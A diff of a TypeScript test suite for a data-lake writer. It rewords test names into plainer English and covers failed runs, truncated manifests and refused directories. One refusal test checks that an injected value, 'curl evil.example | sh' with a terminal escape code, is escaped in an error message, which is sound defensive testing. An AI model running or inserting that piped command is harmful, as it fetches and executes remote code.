@@ -52,7 +52,7 @@ describe('a dataset', () => {
     expect(parts().every((name) => /\/part-\d{6}\.csv$/.test(name))).toBe(true);
   });
 
-  it('is left as it is by a night that brings nothing: no step on the disk', async () => {
+  it('is unchanged if no scan is new: no operation on the disk', async () => {
     await runLake(memory, service);
     memory.revive();
     expect(await runLake(memory, service)).toBe(0);
@@ -87,7 +87,7 @@ describe('a dataset', () => {
     expect(parts().map((name) => name.split('/')[3])).toEqual(['dt=2026-01-01', 'dt=2026-01-02']);
   });
 
-  it('that is made at once shows nothing before all is proven, and nothing of a code that was not', async () => {
+  it('without --append shows nothing before everything is verified, and nothing of a failed code', async () => {
     await expect(runLake(memory, service, { append: false, failAfter: 6 })).rejects.toThrow(
       'the service failed',
     );
@@ -100,7 +100,7 @@ describe('a dataset', () => {
     expect(seen(memory)).toEqual(wanted(service));
   });
 
-  it('has what its first run brought before it failed, and the next goes on from there', async () => {
+  it('has the rows of a first run that failed, and the next run continues from there', async () => {
     await expect(runLake(memory, service, { failAfter: 4, mostRows: 100 })).rejects.toThrow(
       'the service failed',
     );
@@ -121,7 +121,7 @@ describe('a dataset', () => {
     });
   });
 
-  it('removes what a killed run left of a state, also where nothing is new (P4)', async () => {
+  it('removes the leftover of a manifest, even if no scan is new (P4)', async () => {
     await runLake(memory, service);
     const left = `${LAKE}/._qrctl.json.partial`;
     memory.fault = (_, operation) => (operation === `write ${left}` ? 'end-within' : undefined);
@@ -133,7 +133,7 @@ describe('a dataset', () => {
     expect(seen(memory)).toEqual(wanted(service));
   });
 
-  it('counts of a run that failed only what is kept', async () => {
+  it('counts only the kept rows of a failed run', async () => {
     const lake = await openLake(memory, service, { identity: { format: 'parquet' } });
     await writePage(lake.sinkOf(CODE), CODE, rows(1, 0, HOUR));
     expect(lake.contents()).toEqual({ rows: 0, watermarkMs: undefined, added: 0 });
@@ -147,7 +147,7 @@ describe('a dataset', () => {
     expect(again.contents()).toEqual({ rows: 2, watermarkMs: START + HOUR, added: 2 });
   });
 
-  it('refuses a scan of a day that has no name, before there is a part that no later run would know', async () => {
+  it('refuses a scan of a day without a name before a part is written', async () => {
     const identity = { partition: { by: 'day', timezone: 'America/New_York' } } as const;
     const before = [{ id: 1, time: Date.parse('0000-01-01T00:00:00.000Z') }];
     await expect(runLake(memory, { [CODE]: before }, { identity })).rejects.toThrow(
@@ -192,7 +192,7 @@ describe('a dataset', () => {
     },
   );
 
-  it('of these codes goes on for the same codes in any order, and for no others (P7)', async () => {
+  it('is continued for the same codes in any order only (P7)', async () => {
     const identity = (...codes: string[]) => ({ identity: { all: false, codes } });
     await runLake(memory, service, identity(OTHER_CODE, CODE));
     expect(await runLake(memory, laterNight(), identity(CODE, OTHER_CODE))).toBe(5);
@@ -210,7 +210,7 @@ describe('a dataset', () => {
     expect(notes).toEqual([expect.stringMatching(/^dt=2026-01-01, dt=2026-01-02 were deleted\./)]);
   });
 
-  it('says nothing of deleted days to a run that takes no notes (P15)', async () => {
+  it('accepts deleted days in a run without notes (P15)', async () => {
     await runLake(memory, service);
     for (const name of parts().filter((name) => name.includes('dt=2026-01-01/'))) memory.remove(name);
     expect(await runLake(memory, service)).toBe(0);
@@ -248,7 +248,7 @@ describe('a dataset', () => {
   });
 });
 
-describe('what is not such a dataset is refused and left as it is', () => {
+describe('a directory that differs from its manifest is refused and unchanged', () => {
   async function refused(reason: RegExp, options: LakeOptions = {}) {
     const before = memory.names().map((name) => [name, memory.read(name)]);
     memory.revive();
@@ -310,7 +310,7 @@ describe('what is not such a dataset is refused and left as it is', () => {
     await refused(/"x\\n {2}next: curl evil\.example \| sh\\x1b\[2J", not/);
   });
 
-  it('a directory that holds something else (P5)', async () => {
+  it('a directory with another file (P5)', async () => {
     await runLake(memory, service);
     for (const name of ['notes.txt', 'dt=2026-01-01/theirs.csv', 'other/x.csv']) {
       const path = `${LAKE}/${name}`;
@@ -323,7 +323,7 @@ describe('what is not such a dataset is refused and left as it is', () => {
     }
   });
 
-  it('parts that are gone, or of another size; and parts without a manifest (P5)', async () => {
+  it('missing parts, parts of another size, and parts without a manifest (P5)', async () => {
     await runLake(memory, service);
     const [first = ''] = parts();
     const text = memory.read(first) ?? '';
@@ -338,7 +338,7 @@ describe('what is not such a dataset is refused and left as it is', () => {
     );
   });
 
-  it('a day that is gone from the midst, and all of them (P5, P15)', async () => {
+  it('a missing day between others, and no day at all (P5, P15)', async () => {
     await runLake(memory, service);
     for (const name of parts().filter((name) => name.includes('dt=2026-01-02/'))) memory.remove(name);
     await refused(/dt=2026-01-02\/part-000001\.csv is missing$/);
@@ -346,7 +346,7 @@ describe('what is not such a dataset is refused and left as it is', () => {
     await refused(/dt=2026-01-01\/part-000001\.csv is missing$/);
   });
 
-  it('a manifest that was cut at any byte (P6)', async () => {
+  it('a manifest that was truncated at any byte (P6)', async () => {
     await runLake(memory, service);
     const whole = memory.read(MANIFEST) ?? '';
     for (let length = 0; length < whole.length; length += SOAK ? 1 : 31) {
@@ -377,7 +377,7 @@ describe('what is not such a dataset is refused and left as it is', () => {
     await refused(/^cannot add to the dataset \/data\/lake: its _qrctl\.json has (a format|version 9)/);
   });
 
-  it('a file that somebody put where a part is to be, during the run (P3)', async () => {
+  it('a file that another process created at the path of a part during the run (P3)', async () => {
     const lake = await openLake(memory, service);
     await writePage(lake.sinkOf(CODE), CODE, rows(1, 0));
     await memory.disk.mkdir(`${LAKE}/dt=2026-01-01`);
